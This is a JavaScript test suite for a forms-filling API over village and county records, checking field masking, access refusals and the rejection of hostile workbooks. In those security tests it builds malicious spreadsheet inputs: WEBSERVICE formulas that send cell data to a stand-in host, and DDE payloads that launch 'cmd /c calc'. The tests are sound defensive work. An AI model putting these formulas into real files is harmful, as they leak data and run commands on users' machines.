// Forms of other offices over HTTP: understood, corrected, filled and read back; what is remembered, for whom; who is refused, and which
// forms. On SQLite and on PostgreSQL. The shapes and units themselves are fill.mjs's.
import assert from 'node:assert/strict';
import { readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { Postgres, Site, idNumber, uuid } from './support/site.mjs';
import { unzipped, workbook, zipped } from './support/xlsx.mjs';

const year = new Date(Date.now() + 8 * 3600e3).getUTCFullYear();
const ids = { rain: idNumber('2014-03-11', 12), hill: idNumber('1985-05-05', 31), flower: idNumber('1990-01-01', 44) };
const phone = '13900001234';
const blank = (columns, rows) => Array.from({ length: rows }, () => Array(columns).fill(''));
const villages = (...headings) => workbook({ rows: [['村', ...headings], ['口头庄村', ...headings.map(() => '')], ['河口村', ...headings.map(() => '')]] });
const list = (...headings) => workbook({ rows: [headings, ...blank(headings.length, 4)] });
// A workbook with parts changed, by their names: what a part becomes, or the part under another name.
function changed(bytes, change) {
  const parts = new Map(Object.entries(unzipped(bytes)).map(([part, { content }]) => [part, content.toString()]));
  change(parts);
  return zipped([...parts]);
}
const related = (bytes, kind, target, content) => changed(bytes, (parts) => {
  const part = 'xl/_rels/workbook.xml.rels';
  parts.set(part, parts.get(part).replace('</Relationships>', `<Relationship Id="more" Type="${kind}" Target="${target}"/></Relationships>`));
  parts.set(`xl/${target}`, content);
});

function scenario(name, database) {
  describe(name, () => {
    let site, postgres, made = 0, county, village, other;

    before(async () => {
      postgres = database === 'postgresql' ? await Postgres.start() : null;
      site = new Site(postgres?.url).init();
      site.addOrgs('code,name,level,kind,parent\n999002000000,竹山县,county,,999000000000\n');
      site.openAccounts([['neighbour', '999002000000', 'officer'], ['city', '999000000000', 'officer'], ['auditor', '999001000000', 'auditor'], ['cashier2', '999001100000', 'cashier']]);
      await site.serve();
      county = await site.orgId('county', '花溪市');
      village = await site.orgId('village', '口头庄村');
      other = await site.orgId('neighbour', '竹山县');
      const [rain, hill, flower, h1, h2] = Array.from({ length: 5 }, () => uuid());
      const good = async (login, body) => { const answer = await site.command(login, body); assert.equal(answer.status, 200, answer.text); };
      await good('village', { steps: [
        { type: 'core.person', move: 'enter', record: hill, values: { name: '王大山', sex: 'male', birth: '1985-05-05', id_number: ids.hill, phone } },
        { type: 'core.household', move: 'enter', record: h1, values: { head: hill, door: '口头庄 12 号院', people: 3 } },
        { type: 'core.person', move: 'enter', record: rain, values: { name: '李小雨', sex: 'female', birth: '2014-03-11', id_number: ids.rain, guardian: hill, household: h1 } },
      ] });
      await good('village2', { steps: [
        { type: 'core.person', move: 'enter', record: flower, values: { name: '张小花', sex: 'female', birth: '1990-01-01', id_number: ids.flower } },
        { type: 'core.household', move: 'enter', record: h2, values: { head: flower, door: '河口 3 号', people: 4 } },
      ] });
    });
    after(async () => {
      await site?.end();
      postgres?.stop();
    });

    const asked = (bytes, more = {}) => ({ form: Buffer.from(bytes).toString('base64'), name: '表.xlsx', org: county, period: String(year), ...more });
    const plan = (login, bytes, more) => site.post(login, '/api/v1/forms/plan', asked(bytes, more));
    const fill = (login, bytes, more) => site.post(login, '/api/v1/forms/fill', asked(bytes, more));
    const headings = (answer) => Object.fromEntries((answer.json.headings ?? answer.json.plan.headings).map((each) => [each.heading, each]));
    const count = (statement) => Number(site.sql(statement)[0][0]);
    async function good(answer) {
      const said = await answer;
      assert.equal(said.status, 200, said.text.slice(0, 600));
      return said;
    }
    // What the file has in it, read by another part of the program; every part but the sheet is what it was.
    function read(answer, bytes) {
      const file = join(site.folder, `filled${++made}.xlsx`), filled = Buffer.from(answer.json.file, 'base64');
      writeFileSync(file, filled);
      const [was, is] = [unzipped(bytes), unzipped(filled)];
      assert.deepEqual(Object.keys(is).sort(), Object.keys(was).sort());
      for (const part of Object.keys(was)) if (part !== 'xl/worksheets/sheet1.xml') assert.ok(is[part].packed.equals(was[part].packed), part);
      return site.run('sheet', file, '--csv').trim().split('\r\n').map((line) => line.split(','));
    }

    test('a plan: shape, grid, each heading with what it stands for, what else it may mean, what is not known; nothing is kept', async () => {
      const bytes = workbook({ rows: [['家庭情况表', '', '', '', ''], ['村', '家庭户', '登记人员数', '走访', '民族村'], ['口头庄村', '', '', '', ''], ['河口村', '', '', '', '']], merges: ['A1:E1'], cols: '<col min="1" max="1" width="20"/>' });
      const before_ = site.counts(), files = readdirSync(site.data).sort();
      const { json } = await good(plan('county', bytes));
      const by = headings({ json });
      assert.deepEqual([json.kind, json.known, json.org_name, json.from, json.until, json.lines], ['orgs', null, '花溪市', `${year}-01-01`, `${year}-12-31`, 2]);
      assert.deepEqual([by.家庭户.is, by.家庭户.state, by.家庭户.row, by.家庭户.column, by.家庭户.title], ['core.households', 'sure', 2, 1, '家庭户']);
      assert.deepEqual([by.登记人员数.is, by.登记人员数.state], ['core.people', 'guessed']);
      assert.deepEqual([by.走访.is, by.走访.state, by.走访.why.code], ['', 'unknown', 'form_unclear']);
      assert.ok(by.走访.candidates.length > 1 && by.走访.candidates.every((each) => each.is.includes('.') && each.title.includes('走访') && each.of), JSON.stringify(by.走访.candidates));
      assert.deepEqual([by.民族村.state, by.民族村.why.code], ['unknown', 'form_unknown']);
      assert.deepEqual([json.totals.unknown, json.totals.guessed], [2, 1]);
      assert.deepEqual(json.sheet.rows[0].cells.map((cell) => [cell.text, cell.columns]), [['家庭情况表', 5]]);
      assert.equal(json.sheet.widths[0], 20);
      const after_ = site.counts();
      assert.deepEqual(Object.keys(after_).filter((table) => after_[table] !== before_[table]), []);
      assert.deepEqual(readdirSync(site.data).sort(), files);
    });

    test('what a heading may be said to mean is found by its words', async () => {
      const { json } = await good(site.get('county', `/api/v1/forms/meanings?type=core.person&figures=0&q=${encodeURIComponent('身份证')}`));
      assert.deepEqual([json.meanings[0].is, json.meanings[0].masks], ['core.person.id_number', ['middle', 'last4', 'full']]);
      const figures = (await good(site.get('county', `/api/v1/forms/meanings?q=${encodeURIComponent('家庭户')}`))).json.meanings;
      assert.equal(figures[0].is, 'core.households');
      assert.equal((await site.get('county', '/api/v1/forms/meanings?type=core.nothing')).json.code, 'form_no_type');
    });

    test('a heading chosen, the form filled and read back; each cell says where it came from; nothing is remembered unasked', async () => {
      const bytes = villages('家庭户', '女同志', '民族村');
      const mapping = { headings: { 女同志: "core.people['female']", 民族村: null } };
      const said = headings(await good(plan('county', bytes, { mapping })));
      assert.deepEqual([said.女同志.state, said.女同志.is, said.民族村.state], ['said', "core.people['female']", 'left']);
      const answer = await good(fill('county', bytes, { mapping }));
      assert.deepEqual(read(answer, bytes).slice(1), [['口头庄村', '1', '1', ''], ['河口村', '1', '1', '']]);
      const { json } = answer;
      const cell = json.cells.find((each) => each.cell === 'C2');
      assert.deepEqual([cell.value, cell.source, cell.org, cell.org_name, cell.from, cell.until, cell.why], ['1', "core.people['female']", village, '口头庄村', `${year}-01-01`, `${year}-12-31`, null]);
      assert.deepEqual([json.filled, json.empty, json.remembered], [4, 2, false]);
      assert.equal(json.cells.find((each) => each.cell === 'D2').why.code, 'form_left_out');
      assert.match(Buffer.from(json.sources, 'base64').toString(), /C2,女同志,/);
      assert.equal((await good(plan('county', bytes))).json.known, null);
    });

    test('a mapping is kept once however often it is sent, in the journal; next month it is known, in her county and in no other', async () => {
      const form = (month) => workbook({ rows: [[`${month}月报表`, '', ''], ['村', '户（家）', `在册（${month}月）`], ['口头庄村', '', ''], ['河口村', '', '']], merges: ['A1:C1'] });
      const unknown = (await good(plan('county', form(1), { period: `${year}-01` }))).json;
      assert.deepEqual([unknown.kind, unknown.problems[0].code, unknown.sheet.rows[1].cells[1].text], ['none', 'form_no_headings', '户（家）']);
      const sent = { id: uuid(), period: `${year}-01`, remember: true, mapping: { headings: { '户（家）': null, '在册（1月）': "core.people['female']" } } };
      for (let n = 0; n < 2; ++n) {
        const answer = await good(fill('county', form(1), sent));
        assert.equal(answer.json.remembered, true);
        assert.equal(read(answer, form(1))[2][0], '口头庄村');
      }
      assert.equal(count(`select count(*) from journal where command = '${sent.id}'`), 1);
      const changed = await fill('county', form(1), { ...sent, period: `${year}-02` });
      assert.deepEqual([changed.status, changed.json.code], [409, 'command_used']);
      assert.equal((await fill('county', form(1), { ...sent, id: 'x' })).json.problems[0].code, 'not_an_id');
      assert.equal((await fill('county', form(1), { ...sent, id: undefined })).json.problems[0].code, 'not_an_id');

      const next = await good(plan('township', form(2), { period: `${year}-02`, org: await site.orgId('township', '东山镇') }));
      assert.match(next.json.known, /^\d{4}-\d\d-\d\d$/);
      assert.deepEqual(next.json.headings.map((each) => each.state), ['sure', 'left', 'said']);
      assert.equal((await good(fill('county', form(2), { period: `${year}-02` }))).json.plan.headings[2].is, "core.people['female']");
      assert.equal((await good(plan('neighbour', form(2), { period: `${year}-02`, org: other }))).json.known, null);
      // What is said at the city is for all counties, but for those that have said something of their own.
      const city = await site.orgId('city', '省直辖');
      await good(fill('city', workbook({ rows: [['县', '户（家）', '在册（1月）'], ['竹山县', '', '']] }), { id: uuid(), org: city, remember: true, period: `${year}-01`, mapping: { headings: { '户（家）': 'core.households', '在册（1月）': 'core.people' } } }));
      const heard = workbook({ rows: [['县', '户（家）', '在册（2月）'], ['竹山县', '', '']] });
      const neighbour = headings(await good(plan('neighbour', heard, { period: `${year}-02`, org: other })));
      assert.equal(neighbour['在册(2月)'].is, 'core.people');
      assert.match(site.run('verify', '--data', site.data), /nothing changed/);
    });

    test('who only looks on may fill, and may not say for the county what a heading is', async () => {
      const bytes = villages('家庭户', '只看的');
      const mapping = { headings: { 只看的: 'core.people' } };
      assert.equal((await good(plan('auditor', bytes))).json.may_remember, false);
      assert.deepEqual(read(await good(fill('auditor', bytes, { mapping })), bytes)[1], ['口头庄村', '1', '2']);
      const answer = await fill('auditor', bytes, { mapping, id: uuid(), remember: true });
      assert.deepEqual([answer.status, answer.json.problems[0].code, answer.json.problems[0].path], [403, 'not_yours', 'remember']);
      assert.equal((await good(plan('county', bytes))).json.known, null);
    });

    test('what an office says is for itself and below: nobody’s word is heard above or beside, the nearest one’s counts; whole numbers are chosen each time', async () => {
      const bytes = list('姓名', '证件号码', '性别', '自编奇名');
      const said = (mapping, more) => ({ id: uuid(), remember: true, reason: '核对', mapping: { type: 'core.person', ...mapping }, ...more });
      const township = await site.orgId('township', '东山镇');
      await good(fill('village', bytes, said({ where: "sex == 'female'", headings: { 证件号码: { is: 'id_number', mask: 'full' }, 自编奇名: null, 没有的: 'core.people' } }, { org: village })));
      const own = (await good(plan('village', bytes, { org: village }))).json;
      assert.deepEqual([own.where, own.headings[1].is, own.headings[1].mask, own.headings[3].state], ["sex == 'female'", 'core.person.id_number', 'middle', 'left']);
      assert.ok(!JSON.stringify(site.sql('select mapping from form_mapping')).match(/full|没有的/));
      for (const [login, org] of [['village2', await site.orgId('village2', '河口村')], ['township', township], ['county', county], ['neighbour', other]]) {
        const heard = (await good(plan(login, bytes, { org }))).json;
        assert.deepEqual([heard.known, heard.where], [null, ''], login);
      }
      // A word that only the village has said is no heading for anybody else.
      const odd = list('自编奇名', '别的奇名');
      assert.equal((await good(plan('county', odd))).json.problems[0].code, 'form_no_headings');

      await good(fill('township', bytes, said({ headings: { 证件号码: 'phone' } }, { org: township })));
      const is = async (login, org) => { const { json } = await good(plan(login, bytes, { org })); return [json.known !== null, json.headings[1].is]; };
      assert.deepEqual(await is('township', await site.orgId('township', '西偏坨村')), [true, 'core.person.phone']);
      assert.deepEqual(await is('village', village), [true, 'core.person.id_number']);
      assert.deepEqual([(await is('county', county))[0], (await is('village2', await site.orgId('village2', '河口村')))[0]], [false, false]);
      await good(fill('village', bytes, said({ where: '', headings: {} }, { org: village })));
      assert.equal((await good(plan('village', bytes, { org: village }))).json.where, '');

      for (const mapping of [{ headings: Object.fromEntries(Array.from({ length: 401 }, (_, n) => [`甲${n}`, null])) }, { headings: { ['甲'.repeat(201)]: null } }, { where: '1'.repeat(1001) }])
        assert.equal((await fill('village', bytes, said(mapping, { org: village }))).json.code, 'form_mapping');
      const answer = await fill('cashier2', villages('家庭户', '记不住的'), { id: uuid(), remember: true, org: township, mapping: { headings: { 记不住的: null } } });
      assert.deepEqual([answer.status, answer.json.problems[0].path], [403, 'remember']);
    });

    test('what was kept by county before: heard where an office of the county had said it, and not else', async () => {
      const bytes = villages('家庭户', '旧时说的');
      const { fingerprint } = (await good(plan('county', bytes))).json;
      const keep = (login) => site.sql(`insert into form_mapping (fingerprint, mapping, at, account) values ('${fingerprint}@${county / 1e6}', '{"headings":{"旧时说的":"core.people"}}', 1, (select id from account where login = '${login}')) on conflict (fingerprint) do update set account = excluded.account`);
      keep('village');
      assert.equal((await good(plan('county', bytes))).json.headings[2].state, 'unknown');
      keep('county');
      assert.equal((await good(plan('county', bytes))).json.headings[2].is, 'core.people');
      assert.equal((await good(plan('neighbour', bytes, { org: other }))).json.headings[2].state, 'unknown');
      site.sql(`delete from form_mapping where fingerprint = '${fingerprint}@${county / 1e6}'`);
    });

    test('a city’s list has the records of each of its counties', async () => {
      const bytes = list('姓名', '性别', '出生日期'), city = await site.orgId('city', '省直辖');
      const id = uuid();
      assert.equal((await site.command('neighbour', { type: 'core.person', move: 'enter', record: id, org: other, values: { name: '竹山人', sex: 'female', birth: '1977-07-07', id_number: idNumber('1977-07-07', 50) } })).status, 200);
      const rows = read(await good(fill('city', bytes, { org: city, mapping: { type: 'core.person', headings: {} } })), bytes).map((row) => row[0]);
      const own = read(await good(fill('county', bytes, { mapping: { type: 'core.person', headings: {} } })), bytes).map((row) => row[0]);
      assert.deepEqual(own.filter(Boolean).sort(), ['姓名', '张小花', '李小雨', '王大山'].sort());
      assert.deepEqual(rows.filter(Boolean).sort(), [...own.filter(Boolean), '竹山人'].sort());
      const card = workbook({ rows: [['姓名', '', '性别', '']] });
      assert.equal(read(await good(fill('city', card, { org: city, record_type: 'core.person', record: id })), card)[0][1], '竹山人');
    });

    test('a figure that she may not see stays empty and says why', async () => {
      const indicators = (await site.get('county', '/api/v1/meta')).json.programmes.find((programme) => programme.id === 'domestic_violence').indicators;
      const secret = indicators.find((each) => each.name === 'domestic_violence.reported');
      const bytes = workbook({ rows: [['单位', '家庭户', '求助'], ['花溪市', '', '']] });
      const answer = await good(fill('county', bytes, { mapping: { headings: { 求助: secret.name } } }));
      assert.equal(read(answer, bytes)[1].slice(0, 2).join(), '花溪市,2');
      const cell = answer.json.cells.find((each) => each.cell === 'C2');
      assert.deepEqual([cell.value, cell.why.code, cell.why.args.why], ['', 'form_withheld', 'not_here']);
    });

    test('private fields: with a reason, masked as chosen, noted as looks; whoever may not reveal them gets none, however she asks', async () => {
      const bytes = list('姓名', '证件', '性别', '联系电话');
      const mapping = (mask) => ({ type: 'core.person', headings: { 证件: { is: 'id_number', mask } } });
      const hers = { org: village };
      const { json } = await good(plan('village', bytes, { ...hers, mapping: mapping('last4') }));
      assert.deepEqual([json.kind, json.needs_reason, json.headings[1].mask, json.headings[1].masks, json.headings[3].mask], ['records', true, 'last4', ['middle', 'last4', 'full'], 'middle']);
      const without = await good(fill('village', bytes, { ...hers, mapping: mapping('full') }));
      assert.ok(without.json.cells.filter((cell) => cell.column === 1).every((cell) => cell.why?.code === 'form_needs_reason'));
      for (const id of Object.values(ids)) assert.ok(!JSON.stringify([without.json.cells, read(without, bytes)]).includes(id));

      const looks = () => count("select count(*) from look where how = 'reveal'");
      const before_ = looks();
      const seen = { last4: ids.hill.slice(-4), middle: `${ids.hill.slice(0, 6)}********${ids.hill.slice(-4)}`, full: ids.hill };
      for (const [mask, shown] of Object.entries(seen)) {
        const answer = await good(fill('village', bytes, { ...hers, reason: '民政局要名册', mapping: mapping(mask) }));
        const row = read(answer, bytes).find((each) => each[0] === '王大山');
        assert.deepEqual([row[1], row[3]], [shown, '139****1234'], mask);
        const cell = answer.json.cells.find((each) => each.value === shown);
        assert.deepEqual([cell.how, cell.record.length], [mask, 36]);
      }
      assert.ok(looks() >= before_ + 6, `${looks()} looks, ${before_} before`);

      const person = (await site.get('village', '/api/v1/records/core.person')).json.rows.find((row) => row.label === '王大山').record;
      const refused = [];
      for (const login of ['village2', 'township', 'county', 'chair', 'cashier', 'auditor', 'city', 'neighbour', 'sysadmin']) {
        if ((await site.post(login, `/api/v1/records/core.person/${person}/reveal`, { field: 'id_number', reason: '看看' })).status === 200) continue;
        refused.push(login);
        for (const org of [village, county]) {
          const answer = await fill(login, bytes, { org, reason: '看看', mapping: mapping('full') });
          const told = answer.text + (answer.json.file ? JSON.stringify(read(answer, bytes)) : '');
          assert.ok(!told.includes(ids.hill) && !told.includes(phone), `${login} gets ${told.slice(0, 300)}`);
        }
      }
      assert.deepEqual(refused, ['village2', 'neighbour', 'sysadmin']);
    });

    test('one person’s form: which record is asked for, and the cells come from it; remembered without her', async () => {
      const bytes = workbook({ rows: [['姓名', '', '性别', ''], ['出生日期', '', '身份证号', '']] });
      const asks = (await good(plan('village', bytes, { org: village }))).json;
      assert.deepEqual([asks.kind, asks.wants, asks.headings[0].why.code], ['cells', 'core.person', 'form_needs_record']);
      const record = (await site.get('village', '/api/v1/records/core.person')).json.rows.find((row) => row.label === '李小雨').record;
      const named = { org: village, record_type: 'core.person', record, reason: '建档' };
      const answer = await good(fill('village', bytes, { ...named, id: uuid(), remember: true, mapping: { type: 'core.person', headings: { 姓名: 'core.person.name', 出生日期: 'core.person.birth', 身份证号: { is: 'core.person.id_number', mask: 'last4' } } } }));
      assert.deepEqual(read(answer, bytes), [['姓名', '李小雨', '性别', '女'], ['出生日期', '2014-03-11', '身份证号', ids.rain.slice(-4)]]);
      const next = (await good(plan('village', bytes, { org: village }))).json;
      assert.deepEqual([next.headings[0].is, next.headings[0].why.code, next.wants], ['core.person.name', 'form_needs_record', 'core.person']);
      assert.equal((await fill('village2', bytes, { ...named, org: await site.orgId('village2', '河口村') })).json.code, 'no_such_record');
    });

    test('a blank that two labels lead to is the first one’s; a row in a row is refused; the server stands', async () => {
      const bytes = workbook({ rows: [['自编甲', '人', ''], ['自编乙', '名', ''], ['自编丙', '位', '']] });
      const mapping = { headings: Object.fromEntries(['自编甲', '自编乙', '自编丙', '人', '名', '位'].map((each) => [each, 'core.people'])) };
      const answer = await good(fill('county', bytes, { mapping }));
      assert.equal(read(answer, bytes)[0][2], '3');
      assert.deepEqual(answer.json.cells.filter((cell) => cell.cell === 'C1').map((cell) => [cell.heading, cell.value, cell.why?.code]), [['自编甲', '3', undefined], ['人', '', 'form_cell_taken']]);
      const parts = Object.entries(unzipped(workbook({ rows: [['']] }))).map(([part, { content }]) => [part, part.endsWith('sheet1.xml') ? '<worksheet><sheetData><row r="1"><row r="2"/></row></sheetData></worksheet>' : content]);
      assert.equal((await fill('county', zipped(parts))).json.code, 'sheet_broken');
      await good(site.get('county', '/api/v1/today'));
    });

    test('strangers, other counties and administrators are refused', async () => {
      const bytes = villages('家庭户');
      for (const path of ['plan', 'fill']) {
        assert.equal((await site.post(null, `/api/v1/forms/${path}`, asked(bytes))).status, 401);
        for (const login of ['neighbour', 'village', 'sysadmin', 'secadmin']) {
          const answer = await site.post(login, `/api/v1/forms/${path}`, asked(bytes));
          assert.deepEqual([answer.status, answer.json.code], [403, 'not_yours'], `${login} ${path}`);
        }
      }
      assert.equal((await site.get(null, '/api/v1/forms/meanings')).status, 401);
    });

    test('what a form is, its relations and its formulas say, not the names of its parts', async () => {
      const rows = [['村', '家庭户'], ['口头庄村', '']], office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
      const calling = workbook({ rows: [...rows, [{ f: 'WEBSERVICE("http://x.example/?"&B2)' }, '']] });
      const elsewhere = (to) => changed(calling, (parts) => {
        const sheet = 'xl/worksheets/sheet1.xml', relations = 'xl/_rels/workbook.xml.rels';
        parts.set(`xl/${to}`, parts.get(sheet));
        parts.delete(sheet);
        parts.set(relations, parts.get(relations).replace('worksheets/sheet1.xml', to));
      });
      const quoted = (f) => workbook({ rows: [...rows, [{ f }, '']] });
      for (const [code, bytes] of [
        ['form_calls_out', quoted(`'x"y'!A1&WEBSERVICE("http://x.example/?"&B2)`)],
        ['form_calls_out', quoted(`'it''s"'!A1&_xlfn.WEBSERVICE("http://x.example/?"&B2)`)],
        ['form_calls_out', quoted(`T[a"b]&"x"&cmd|'/c calc'!A0`)],
        ['form_calls_out', quoted(`T[it'[s"b]&WEBSERVICE("x"&B2)`)],
        ['form_calls_out', quoted('MAP(B2,_xleta.WEBSERVICE)')],
        ['form_calls_out', elsewhere('parts/p1.xml')],
        ['form_calls_out', elsewhere('media/p1.png')],
        ['form_connections', related(workbook({ rows }), `${office}/connections`, 'a1.xml', '<connections/>')],
        ['form_connections', related(workbook({ rows }), 'http://x.example/none', 'a1.xml', '<queryTable/>')],
        ['form_macros', related(workbook({ rows }), 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vba.bin', 'x')],
        ['form_macros', related(workbook({ rows }), 'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet', 'm.xml', '<a/>')],
        ['form_calls_out', related(workbook({ rows }), `${office}/externalLink`, 'e.xml', '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')],
        ['form_calls_out', related(workbook({ rows }), `${office}/externalLink`, 'e.xml', '<externalLink><oleLink progId="a"/></externalLink>')],
        ['form_calls_out', related(workbook({ rows }), `${office}/table`, 't.xml', '<table><calculatedColumnFormula>WEBSERVICE(B2)</calculatedColumnFormula></table>')],
      ]) {
        const answer = await fill('county', bytes);
        assert.deepEqual([answer.status, answer.json.code], [422, code], answer.text.slice(0, 300));
      }
      const harmless = related(quoted('SUM(B2:B2)&"WEBSERVICE( | "'), `${office}/externalLink`, 'e.xml', '<externalLink><externalBook/></externalLink>');
      assert.equal((await good(fill('county', harmless))).json.plan.links, true);
      await good(fill('county', related(workbook({ rows }), `${office}/vmlDrawing`, 'd.vml', '<xml><br></xml>')));
    });

    test('what hardly shows is hidden, and is not filled: rows by default, columns and rows of next to no size', async () => {
      const rows = [['村', '家庭户', '登记人员数'], ['口头庄村', '', ''], ['河口村', '', '']];
      const thin = await good(fill('county', workbook({ rows, cols: '<col min="3" max="3" width="0.01" customWidth="1"/>' })));
      assert.deepEqual(thin.json.cells.filter((cell) => cell.column === 2).map((cell) => cell.why?.code), ['form_hidden', 'form_hidden']);
      const sheet = (change) => changed(workbook({ rows }), (parts) => parts.set('xl/worksheets/sheet1.xml', change(parts.get('xl/worksheets/sheet1.xml'))));
      const low = await good(fill('county', sheet((xml) => xml.replace('<row r="3">', '<row r="3" ht="0.2" customHeight="1">'))));
      assert.deepEqual(low.json.cells.map((cell) => cell.row), [2, 2]);
      const narrow = await good(fill('county', sheet((xml) => xml.replace('<sheetData>', '<sheetFormatPr defaultColWidth="0.1"/><sheetData>'))));
      assert.ok(narrow.json.cells.every((cell) => cell.why.code === 'form_hidden'));
      const people = (inner) => changed(workbook({ rows: [['姓名', '出生日期', '性别']] }), (parts) => parts.set('xl/worksheets/sheet1.xml', parts.get('xl/worksheets/sheet1.xml').replace('<sheetData>', `${inner}<sheetData>`)));
      assert.equal((await good(fill('village', people(''), { org: village }))).json.filled, 6);
      const refused = await fill('village', people('<sheetFormatPr defaultRowHeight="15" zeroHeight="1"/>'), { org: village });
      assert.deepEqual([refused.status, refused.json.code], [422, 'form_rows_short']);
    });

    test('forms made to take long are read quickly or refused', async () => {
      const quickly = async (bytes, code, seconds = 10) => {
        const begun = Date.now(), answer = await plan('county', bytes);
        assert.ok(Date.now() - begun < seconds * 1000, `${Date.now() - begun} ms`);
        assert.equal(answer.json.code ?? answer.json.kind, code, answer.text.slice(0, 200));
      };
      const many = (n, rows, first = 30_000) => workbook({ rows, merges: Array.from({ length: n }, (_, i) => `A${first + 2 * i}:A${first + 1 + 2 * i}`) });
      const rows = [['村', '家庭户'], ...Array.from({ length: 19_000 }, (_, n) => [`村${n}`, ''])];
      await quickly(many(195_000, rows), 'sheet_large');
      await quickly(many(49_000, rows), 'orgs', 20);
      await quickly(workbook({ rows: [['村', '家庭户']], merges: ['A1:B1', 'B1:C1'] }), 'sheet_broken');
      // Labels with numbers beside them, all the way down.
      await quickly(workbook({ rows: Array.from({ length: 19_000 }, () => ['家庭户', 3, '登记人员数', 4]) }), 'none', 20);
      const long = `<sst><si><t>${'长'.repeat(300_000)}</t></si></sst>`;   // one text, in each cell
      await quickly(changed(workbook({ rows: [['村', '家庭户'], ...Array.from({ length: 2_000 }, () => ['甲', ''])], shared: true }), (parts) => {
        parts.set('xl/sharedStrings.xml', long);
        parts.set('xl/worksheets/sheet1.xml', parts.get('xl/worksheets/sheet1.xml').replaceAll(/<v>[0-9]+</g, '<v>0<'));
      }), 'sheet_large');
    });

    test('forms that could do harm, and what is no form, are refused with their codes', async () => {
      const rows = [['村', '家庭户'], ['口头庄村', '']];
      const ole = Buffer.from('d0cf11e0a1b11ae1', 'hex');
      const parts = Object.entries(unzipped(workbook({ rows }))).map(([part, { content }]) => [part, content]);
      for (const [code, bytes, more] of [
        ['form_macros', workbook({ rows, extra: [['xl/vbaProject.bin', 'x']] })],
        ['form_signed', workbook({ rows, extra: [['_xmlsignatures/sig1.xml', '<s/>']] })],
        ['form_connections', workbook({ rows, extra: [['xl/connections.xml', '<c/>']] })],
        ['form_calls_out', workbook({ rows: [...rows, [{ f: 'WEBSERVICE("http://x.example/?"&B2)' }, '']] })],
        ['form_many_sheets', workbook({ rows, sheets: Array.from({ length: 10_000 }, (_, n) => [`表${n}`, '<worksheet/>']) })],
        ['sheet_encrypted', Buffer.concat([ole, Buffer.alloc(600), Buffer.from('EncryptedPackage', 'utf16le'), Buffer.alloc(600)])],
        ['sheet_not_xlsx', Buffer.from('姓名,性别\n')],
        ['sheet_broken', zipped([...parts, parts.at(-1)])],
        ['form_no_sheet', workbook({ rows }), { sheet: '没有' }],
        ['form_period', workbook({ rows }), { period: '去年' }],
        ['no_such_org', workbook({ rows }), { org: 1 }],
        ['form_file', workbook({ rows }), { form: 'x' }],
        ['form_file', workbook({ rows }), { form: '' }],
        ['form_mapping', workbook({ rows }), { mapping: { headings: { 村: 3 } } }],
      ]) {
        for (const act of [plan, fill]) {
          const answer = await act('county', bytes, more);
          assert.deepEqual([answer.status, answer.json.code], [422, code], answer.text.slice(0, 300));
          assert.ok(answer.json.problems[0].message.length > 5, 'says what would be right');
        }
      }
      assert.equal((await fill('county', workbook({ rows: [['无关', '内容'], ['', '']] }))).json.code, 'form_no_headings');
      assert.equal((await fill('county', villages('家庭户'), { mapping: { headings: { 家庭户: 'core.nothing' } } })).json.code, 'form_no_such');
      assert.equal((await site.post('county', '/api/v1/forms/plan', '[]')).status, 422);
      assert.equal((await site.request('county', 'POST', '/api/v1/forms/plan', Buffer.alloc(17 << 20, 0x20))).status, 413);
    });
  });
}

scenario('SQLite', '');
scenario('PostgreSQL', 'postgresql');
